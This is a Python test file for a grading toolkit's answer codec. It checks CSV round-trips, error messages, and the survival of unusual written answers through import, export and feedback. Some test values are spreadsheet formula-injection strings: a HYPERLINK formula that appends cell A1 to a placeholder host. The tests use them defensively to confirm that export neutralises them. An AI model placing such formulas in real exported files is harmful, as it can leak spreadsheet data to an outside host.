"""The answer codec (wpskit.answers): one way from an answer to a CSV field and back, by item type."""

from __future__ import annotations

import csv
import io
import shutil

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import write_csv
from tests.test_grading import BANK
from tests.test_imports import ROSTER
from wpskit.answers import FORMULA_STARTS, AnswerFormatError, check_answer, decode_answer, encode_answer
from wpskit.course import build_course, import_roster
from wpskit.feedback import write_feedback
from wpskit.gradebook import export_scores, read_scores
from wpskit.imports import import_scores
from wpskit.items import load_item_bank

TEXT = st.text(st.characters(codec="utf-8"), min_size=1)
VALUES = {
    "single": TEXT, "truefalse": TEXT, "text": TEXT, "written": TEXT,
    "multi": st.lists(st.text(st.characters(codec="utf-8"))),
    "order": st.lists(st.text(st.characters(codec="utf-8"))),
    "match": st.dictionaries(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8"))),
}


@pytest.mark.parametrize("item_type", sorted(VALUES))
def test_decode_inverts_encode_for_any_unicode(item_type):
    @settings(max_examples=300, deadline=None)
    @given(VALUES[item_type])
    def round_trip(value):
        if value in ([], {}):
            value = None  # an empty list or object is no answer, like ""
        field = encode_answer(value)
        assert decode_answer(item_type, field) == value
        assert not field.startswith(FORMULA_STARTS)
        # and through a real CSV file, as export writes and import reads it
        stream = io.StringIO()
        csv.writer(stream).writerow(["p01", field])
        assert next(csv.reader(io.StringIO(stream.getvalue(), newline="")))[1] == field

    round_trip()


def test_text_is_never_guessed_to_be_json():
    assert decode_answer("text", encode_answer("[10]")) == "[10]"
    assert decode_answer("written", encode_answer("[draft] Bộ Ngoại giao")) == "[draft] Bộ Ngoại giao"
    assert decode_answer("multi", encode_answer(["a", "c"])) == ["a", "c"]
    assert encode_answer('=HYPERLINK("http://x"&A1,"Click")') == "'=HYPERLINK(\"http://x\"&A1,\"Click\")"
    assert encode_answer("'quoted") == "''quoted" and decode_answer("text", "'quoted") == "'quoted"


@pytest.mark.parametrize(("item_type", "text", "message"), [
    ("multi", "[a, c", "not valid JSON"),
    ("multi", '{"a": "1"}', "list of option keys"),
    ("match", '["a"]', "maps option keys"),
    ("order", "[1, 2]", "list of option keys"),
])
def test_a_field_that_does_not_fit_its_type_says_what_fits(item_type, text, message):
    with pytest.raises(AnswerFormatError, match=message):
        decode_answer(item_type, text)


def test_check_answer_against_the_item():
    bank = load_item_bank(BANK)
    assert check_answer(bank.items["t-multi"], ["d", "a"]) == ["a", "d"]
    with pytest.raises(AnswerFormatError, match="not an option of t-single"):
        check_answer(bank.items["t-single"], "z")
    with pytest.raises(AnswerFormatError, match="written answer is text"):
        check_answer(bank.items["t-written"], ["x"])


TRICKY = ["[draft] Bộ Ngoại giao", "[10]", '=HYPERLINK("http://x.example/"&A1,"Click")', "+84 912", "'kept",
          " spaced ", "{not json"]


def test_tricky_written_answers_survive_import_export_import_and_feedback(tmp_path):
    """Issue #16: feedback stopped on '[draft] …' and '[10]' came back as a list."""
    root = tmp_path / "course"
    build_course(root, BANK)
    import_roster(root, write_csv(tmp_path / "roster.csv", ROSTER))
    fresh = shutil.copytree(root, tmp_path / "fresh")
    participants = sorted(line.split(",")[0] for line in ROSTER.splitlines()[1:])[:len(TRICKY)]
    rows = [{"participant_id": pid, "form": "pre", "item_id": "t-written", "score": "", "max_score": 3,
             "response": encode_answer(text)} for pid, text in zip(participants, TRICKY)]
    paper = tmp_path / "paper.csv"
    pd.DataFrame(rows).to_csv(paper, index=False)
    import_scores(root, paper, BANK)
    first = read_scores(root)
    written = first[first["item_id"] == "t-written"].set_index("participant_id")["response"]
    assert {pid: decode_answer("written", written[pid]) for pid in participants} == dict(zip(participants, TRICKY))

    exported = tmp_path / "scores.csv"
    export_scores(root, exported)
    cells = {row["participant_id"]: row["response"] for row in csv.DictReader(exported.open(encoding="utf-8"))
             if row["item_id"] == "t-written"}
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells.values())
    import_scores(fresh, exported, BANK)
    pd.testing.assert_frame_equal(read_scores(fresh), first)

    pages = write_feedback(root, "pre", BANK).written
    html = "".join(page.read_text(encoding="utf-8") for page in pages)
    assert "[draft] Bộ Ngoại giao" in html and "[10]" in html
